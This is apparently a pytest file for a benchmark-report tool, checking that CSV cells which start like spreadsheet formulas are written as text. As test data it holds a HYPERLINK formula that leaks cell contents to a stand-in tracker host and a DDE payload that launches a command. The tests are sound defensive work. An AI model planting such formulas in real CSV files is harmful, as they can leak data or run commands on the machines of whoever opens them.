"""CSV injection: a colleague's log names its model ``=HYPERLINK(...)``; the report's CSVs are opened in a
spreadsheet, which would run it. Every text cell that starts like a formula is written with a leading
apostrophe (OWASP's advice); numbers, negative ones included, are written as they are."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from ecom_tasks.report import write_report
from ecom_tasks.tables import csv_text, spreadsheet_cell

FORMULA = '=HYPERLINK("http://tracker.invalid/?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.125", "-0.125"),  # a negative number (a comparison's difference) stays a number
        ("+5", "+5"),
        ("-inf", "-inf"),
        ("openai/gpt-4o", "openai/gpt-4o"),
        ("a=b", "a=b"),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_text(cell, written):
    assert spreadsheet_cell(cell) == written


def test_csv_text_neutralises_rows_not_the_header():
    text = csv_text(["model", "score"], [["=cmd|' /C calc'!A0", -0.25], ["plain", 0.5]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["model", "score"],
        ["'=cmd|' /C calc'!A0", "-0.25"],
        ["plain", "0.5"],
    ]


def test_report_csvs_hold_no_formula_from_a_log(tmp_path: Path):
    results = {
        "results": {"monbench_perm_query_ad_relevance": {"alias": "x", "acc,none": 0.5}},
        "configs": {
            "monbench_perm_query_ad_relevance": {
                "metadata": {"version": 2.0, "benchmark": "monbench", "shots": 0},
                "dataset_kwargs": {"tasks": ["query_ad_relevance"]},
            }
        },
        "config": {"model": "local-chat-completions", "model_args": f"model={FORMULA},base_url=http://127.0.0.1:1/v1"},
        "n-shot": {"monbench_perm_query_ad_relevance": 0},
        "date": 1767261600.0,
    }
    logs = tmp_path / "logs" / "model"
    logs.mkdir(parents=True)
    (logs / "results_2026-01-01T10-00-00.000001.json").write_text(json.dumps(results))
    out = tmp_path / "report"
    write_report([tmp_path / "logs"], out)
    written = sorted(out.rglob("*.csv"))
    assert written, "the report wrote no CSV"
    seen_model = False
    for path in written:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), (path.name, cell)
                seen_model |= cell.startswith("'=HYPERLINK")
    assert seen_model, "the model's name is in the CSVs, as text"
